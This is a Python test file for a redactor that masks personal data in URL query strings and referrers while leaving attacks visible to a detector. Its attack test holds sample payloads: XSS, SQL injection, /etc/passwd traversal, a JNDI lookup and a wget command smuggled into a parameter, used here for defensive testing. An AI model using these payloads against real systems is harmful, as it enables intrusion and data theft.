"""On sites with personal data, a query's value is masked unless it plainly tells nobody."""

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipelines.detect.web.judge import judge
from pipelines.privacy.redact import Redactor
from pipelines.settings.model import Redaction, Resource
from pipelines.settings.redaction_kinds import KINDS

_RESOURCES = (Resource(id="request", kind="record", path="/requests?customer={subject}", level=2),)
_REDACTOR = Redactor(Redaction(allowed_parameters=("shop_name", "区分")), _RESOURCES)


def _masked(query: str, column: str = "url_query", redactor: Redactor = _REDACTOR) -> str:
    text: str = redactor.columns(pl.DataFrame({column: [query]})).item(0, column)
    return text


@pytest.mark.parametrize(
    "query",
    [
        "page=2&sort=-created_at&lang=ja&flag=true",
        "id=12345678901234567890&no=A-0012",
        "from=2026-01-01T00:00:00Z&to=2026-02-01",
        "status=open,closed,waiting&limit=",
        "q=%E5%B1%B1%E7%94%B0+%E5%A4%AA%E9%83%8E&page=1",
        "検索=水漏れ 修理",
        "customer=a-subject-of-the-catalogue-001",
        "shop_name=Yamada+no+mise&%E5%8C%BA%E5%88%86=%E6%B3%95%E4%BA%BA",
        "utm_campaign=summer_campaign_2026_long&cid=2363377441009138897",
        "next=%2Fcustomers%2F12345%2Fcontracts",
        "a-word-without-a-name-that-is-long",
    ],
)
def test_what_tells_nobody_is_shown(query: str) -> None:
    """Short words, numbers, dates, paths, search words, ids of things, subjects, allowed ones."""
    assert _masked(query) == query


@pytest.mark.parametrize(
    ("query", "masked"),
    [
        ("x=yamada+taro", "x=[value]"),
        ("x=%E5%B1%B1%E7%94%B0&page=1", "x=[value]&page=1"),
        ("zz=a-sentence-about-somebody", "zz=[value]"),
        ("uuid=123e4567-e89b-12d3-a456-426614174000", "uuid=[value]"),
        ("d=%7B%22a%22:1%7D", "d=[value]"),
        ("x=call:taro@example.jp+today", "x=[value][email][value]"),
        ("x=call+taro@example.jp+today", "x=[email]+today"),  # the + may be its own
        ("tel=090-1234-5678&zz=some+free+text", "tel=[phone]&zz=[value]"),
        ("x=some+text'+OR+1=1--", "x=[value]'+OR+1=1--"),
        ("utm_content=%E5%B1%B1%E7%94%B0", "utm_content=[value]"),
    ],
)
def test_any_other_value_is_masked(query: str, masked: str) -> None:
    """Free text, Japanese, long codes and objects under a name that says nothing of them."""
    assert _masked(query) == masked
    assert _masked(masked) == masked


def test_queries_of_referrers_are_masked_too() -> None:
    """What one page's query held is the next request's referrer."""
    assert _masked("https://portal.prime.example/a?x=yamada+taro&page=2#x=a b", "referrer") == (
        "https://portal.prime.example/a?x=[value]&page=2#x=a b"
    )
    assert _masked("https://portal.prime.example/a=some+long+text", "referrer") == (
        "https://portal.prime.example/a=some+long+text"
    )


def test_sites_without_resources_and_settings_without_the_kind_show_them() -> None:
    """The rule is for sites with personal data, and can be switched off like any kind."""
    others = Redaction(kinds=tuple(kind for kind in KINDS if kind != "value"))
    for redactor in (Redactor(Redaction()), Redactor(others, _RESOURCES)):
        assert _masked("x=yamada+taro", redactor=redactor) == "x=yamada+taro"


@pytest.mark.parametrize(
    "value",
    [
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "hello+world'+union+select+1,2--",
        "..%2F..%2F..%2Fetc%2Fpasswd",
        "$%7Bjndi:ldap://a.example/x%7D",
        "a+b;wget+http://a.example/x",
    ],
)
def test_attacks_stay_visible(value: str) -> None:
    """Nobody hides an attack in a parameter that nobody thought of."""
    masked = _masked(f"whatever={value}")
    assert judge(f"/?{masked}", None, None).is_attack


_BITS = st.sampled_from(
    [
        "a=", "q=", "x=", "next=", "customer=", "cid=", "tel=", "&", "=", "+", "%20", "%2F", "/",
        "hello", "a-long-word-of-signs", "12345678901234", "2026-01-01", "%E5%B1%B1", "山田",
        "taro@example.jp", "090-1234-5678", "'+OR+1=1", "<b>", "#", "?", "..", "%", "[",
        "]", "{", ":", ",", "[value]", "zz=",
    ]
)  # fmt: skip


@settings(max_examples=5 * settings().max_examples)
@given(st.lists(_BITS, max_size=12).map("".join), st.sampled_from(["url_query", "referrer"]))
def test_bulk_search_misses_nothing_and_masks_settle(text: str, column: str) -> None:
    """All rows at once are masked as one by one, and a masked text stays as it is."""
    text = f"https://a.example/?{text}" if column == "referrer" else text
    masked, kinds = _REDACTOR._scanner.mask(text, column)
    row = _REDACTOR.columns(pl.DataFrame({column: [text]})).row(0)
    assert row == (masked, sorted(kinds))
    assert _REDACTOR.columns(pl.DataFrame({column: [masked]})).row(0) == (masked, [])
